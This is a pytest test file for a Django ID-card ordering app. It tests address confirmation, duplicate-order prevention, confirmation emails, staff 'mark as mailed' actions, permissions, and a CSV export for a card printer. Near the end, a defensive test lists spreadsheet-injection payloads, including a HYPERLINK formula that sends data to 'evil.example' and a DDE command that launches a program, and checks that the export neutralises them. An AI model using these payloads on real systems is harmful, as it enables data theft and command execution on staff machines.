"""Order ID Card: confirm the mailing address, one open order at a time, a confirmation email,
and the staff side (open orders, mark as mailed, CSV for the card printer)."""

import csv
import datetime
import io
from collections.abc import Callable

import pytest
from django.contrib import admin
from django.contrib.auth.models import Permission
from django.contrib.messages.storage.fallback import FallbackStorage
from django.http import HttpRequest, StreamingHttpResponse
from django.test import Client, RequestFactory
from pytest_django import DjangoAssertNumQueries

from idcards.admin import IdCardOrderAdmin
from idcards.models import IdCardOrder, OrderStatus
from idcards.services import idcard_order, idcard_orders_mark_mailed
from members.models import Address, Member, User
from outbox.models import Email
from tests.queries import queries_for
from tests.security.conftest import staff_client

ORDER_URL = "/profile/id-cards/order/"


def confirmations() -> list[Email]:
    return list(Email.objects.filter(template="idcards/order_confirmation"))


def test_confirm_page_shows_the_mailing_address(member_client: Client, carded_member: Member) -> None:
    response = member_client.get(ORDER_URL)
    html = response.content.decode()
    assert response.status_code == 200
    assert html.count("<h1") == 1
    assert "123 Main St" in html and "Apt 4" in html and "Salinas, CA 93901" in html
    assert '<button type="submit" class="usa-button">Order ID Card</button>' in html
    assert not IdCardOrder.objects.exists()  # looking is not ordering


def test_confirming_records_one_order_and_emails_a_confirmation(
    member_client: Client, carded_member: Member
) -> None:
    response = member_client.post(ORDER_URL)
    assert response.status_code == 302
    assert response["Location"] == "/profile/id-cards/order/done/"
    order = IdCardOrder.objects.get()
    assert order.member == carded_member
    assert order.status == OrderStatus.REQUESTED
    assert (order.line1, order.line2, order.city, order.state, order.zip_code) == (
        "123 Main St",
        "Apt 4",
        "Salinas",
        "CA",
        "93901",
    )
    [email] = confirmations()
    assert email.to == "jose@example.com"
    assert "7 to 10 days" in email.body_text
    # Minimal PHI: no address or member ID in the email.
    assert "123 Main St" not in email.body_text and carded_member.member_id not in email.body_text

    done = member_client.get(response["Location"]).content.decode()
    assert "We received your ID card order" in done
    assert "123 Main St" in done


def test_a_double_submit_or_second_order_creates_nothing_new(
    member_client: Client, carded_member: Member
) -> None:
    member_client.post(ORDER_URL)
    second = member_client.post(ORDER_URL)
    assert second.status_code == 302
    assert IdCardOrder.objects.count() == 1
    assert len(confirmations()) == 1
    page = member_client.get(ORDER_URL).content.decode()
    assert "You already ordered an ID card" in page
    assert '<button type="submit" class="usa-button">Order ID Card</button>' not in page


def test_the_service_returns_the_open_order_instead_of_a_second(carded_member: Member) -> None:
    first, created = idcard_order(member=carded_member)
    again, created_again = idcard_order(member=carded_member)
    assert created and not created_again
    assert again.pk == first.pk


def test_after_staff_mark_it_mailed_the_member_may_order_again(
    member_client: Client, carded_member: Member, staff_user: User
) -> None:
    member_client.post(ORDER_URL)
    idcard_orders_mark_mailed(orders=IdCardOrder.objects.all(), staff_user=staff_user)
    member_client.post(ORDER_URL)
    assert list(IdCardOrder.objects.order_by("id").values_list("status", flat=True)) == [
        "mailed",
        "requested",
    ]
    assert len(confirmations()) == 2


def test_a_member_without_a_mailing_address_gets_a_clear_message(
    member_client: Client, carded_member: Member
) -> None:
    Address.objects.filter(member=carded_member).delete()
    page = member_client.get(ORDER_URL).content.decode()
    assert "We do not have a mailing address for you" in page
    assert '<form method="post" action="/profile/id-cards/order/">' not in page
    response = member_client.post(ORDER_URL)
    assert response.status_code == 200
    assert 'role="alert"' in response.content.decode()
    assert not IdCardOrder.objects.exists()
    assert not confirmations()


def test_an_order_goes_only_to_the_signed_in_members_address(
    member_client: Client, carded_member: Member, make_member: Callable[..., Member]
) -> None:
    stranger = make_member(first_name="Maria")
    Address.objects.create(
        member=stranger, kind="mailing", line1="9 Elsewhere Rd", city="Gilroy", state="CA", zip_code="95020"
    )
    member_client.post(ORDER_URL, {"member": stranger.pk, "member_id": stranger.member_id})
    order = IdCardOrder.objects.get()
    assert order.member == carded_member and order.line1 == "123 Main St"
    assert not IdCardOrder.objects.filter(member=stranger).exists()


def test_order_pages_have_a_fixed_number_of_queries(
    member_client: Client,
    carded_member: Member,
    staff_user: User,
    django_assert_num_queries: DjangoAssertNumQueries,
) -> None:
    member_client.post(ORDER_URL)
    member_client.get(ORDER_URL)
    few_confirm = queries_for(member_client, ORDER_URL)
    few_done = queries_for(member_client, ORDER_URL + "done/")
    IdCardOrder.objects.update(status=OrderStatus.MAILED)
    IdCardOrder.objects.bulk_create(
        IdCardOrder(
            member=carded_member, status="mailed", line1="1 A St", city="Salinas", state="CA", zip_code="1"
        )
        for _ in range(200)
    )
    member_client.post(ORDER_URL)
    with django_assert_num_queries(few_confirm):
        member_client.get(ORDER_URL)
    with django_assert_num_queries(few_done):
        member_client.get(ORDER_URL + "done/")


# --- Staff ---------------------------------------------------------------------------------


def staff_with(*codenames: str) -> User:
    user = User.objects.create_user(username="printer-desk", password="x", is_staff=True)
    user.user_permissions.add(
        *Permission.objects.filter(content_type__app_label="idcards", codename__in=codenames)
    )
    return User.objects.get(pk=user.pk)  # fresh permission cache


def request_by(user: User, query: dict[str, str] | None = None) -> HttpRequest:
    request = RequestFactory().get("/admin/idcards/idcardorder/", query or {})
    request.user = user
    request.session = {}  # type: ignore[assignment]
    request._messages = FallbackStorage(request)  # type: ignore[attr-defined]
    return request


@pytest.fixture
def order_admin() -> IdCardOrderAdmin:
    return IdCardOrderAdmin(IdCardOrder, admin.site)


@pytest.fixture
def orders(make_member: Callable[..., Member]) -> list[IdCardOrder]:
    made = []
    for n, name in enumerate(["Ana", "Bea", "Cruz"]):
        m = make_member(first_name=name, last_name="Lopez")
        made.append(
            IdCardOrder.objects.create(
                member=m, line1=f"{n} Oak St", city="Watsonville", state="CA", zip_code="95076"
            )
        )
    return made


def test_staff_see_open_orders_by_default(
    order_admin: IdCardOrderAdmin, orders: list[IdCardOrder], staff_user: User
) -> None:
    IdCardOrder.objects.filter(pk=orders[0].pk).update(status=OrderStatus.MAILED)
    staff = staff_with("view_idcardorder")
    changelist = order_admin.get_changelist_instance(request_by(staff))
    assert {o.pk for o in changelist.get_queryset(request_by(staff))} == {orders[1].pk, orders[2].pk}
    everything = request_by(staff, {"status": "all"})
    assert order_admin.get_changelist_instance(everything).get_queryset(everything).count() == 3


def test_mark_as_mailed_works_in_bulk_and_needs_the_change_permission(
    order_admin: IdCardOrderAdmin, orders: list[IdCardOrder]
) -> None:
    viewer = staff_with("view_idcardorder")
    assert "mark_mailed" not in order_admin.get_actions(request_by(viewer))
    viewer.delete()
    clerk = staff_with("view_idcardorder", "change_idcardorder")
    assert "mark_mailed" in order_admin.get_actions(request_by(clerk))

    order_admin.mark_mailed(
        request_by(clerk), IdCardOrder.objects.filter(pk__in=[orders[0].pk, orders[1].pk])
    )
    mailed = IdCardOrder.objects.filter(status=OrderStatus.MAILED)
    assert {o.pk for o in mailed} == {orders[0].pk, orders[1].pk}
    assert all(o.mailed_by == clerk and o.mailed_at is not None for o in mailed)
    assert IdCardOrder.objects.get(pk=orders[2].pk).status == OrderStatus.REQUESTED


def test_marking_again_keeps_the_first_mailing_record(orders: list[IdCardOrder], staff_user: User) -> None:
    first = idcard_orders_mark_mailed(orders=orders[:1], staff_user=staff_user)
    mailed_at = IdCardOrder.objects.get(pk=orders[0].pk).mailed_at
    other = User.objects.create_user(username="other", password="x", is_staff=True)
    again = idcard_orders_mark_mailed(orders=orders[:1], staff_user=other)
    assert (first, again) == (1, 0)
    order = IdCardOrder.objects.get(pk=orders[0].pk)
    assert order.mailed_at == mailed_at and order.mailed_by == staff_user


def test_csv_export_for_the_card_printer(order_admin: IdCardOrderAdmin, orders: list[IdCardOrder]) -> None:
    staff = staff_with("view_idcardorder")
    assert "export_csv" in order_admin.get_actions(request_by(staff))
    response = order_admin.export_csv(request_by(staff), IdCardOrder.objects.all())
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="id-card-orders-')
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == [
        "member_id",
        "first_name",
        "last_name",
        "line1",
        "line2",
        "city",
        "state",
        "zip_code",
        "requested",
    ]
    assert [row[1] for row in rows[1:]] == ["Ana", "Bea", "Cruz"]
    first = rows[1]
    assert first[0] == orders[0].member.member_id
    assert first[3:8] == ["0 Oak St", "", "Watsonville", "CA", "95076"]
    assert datetime.date.fromisoformat(first[8])


# What an attacker types as a mailing address, hoping staff open the printer's file in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("https://evil.example/steal?d="&B2&C2,"Open")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
]


def test_the_printer_file_never_holds_a_formula(make_member: Callable[..., Member]) -> None:
    member = make_member(first_name="Ana", last_name="Lopez")
    line1, line2, city, *others = FORMULAS
    order = IdCardOrder.objects.create(
        member=member, line1=line1, line2=line2, city=city, state="CA", zip_code="95076"
    )
    for formula in others:
        IdCardOrder.objects.create(
            member=make_member(), line1=formula, city="Salinas", state="CA", zip_code="93901"
        )
    staff = staff_client("rosa.agent")

    response = staff.post(
        "/admin/idcards/idcardorder/",
        {
            "action": "export_csv",
            "index": "0",
            "_selected_action": list(IdCardOrder.objects.values_list("pk", flat=True)),
        },
    )

    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # Staff and the printer still read the address as typed, after the quote that disarms it.
    first = next(row for row in rows if row[0] == member.member_id)
    assert first[3:6] == ["'" + line1, "'" + line2, "'" + city]
    assert sorted(row[3] for row in rows[1:] if row[0] != member.member_id) == sorted("'" + f for f in others)
    assert order.member.member_id in body


def test_staff_without_permission_get_no_actions(order_admin: IdCardOrderAdmin, db: None) -> None:
    nobody = User.objects.create_user(username="nobody", password="x", is_staff=True)
    actions = order_admin.get_actions(request_by(nobody))
    assert "export_csv" not in actions and "mark_mailed" not in actions
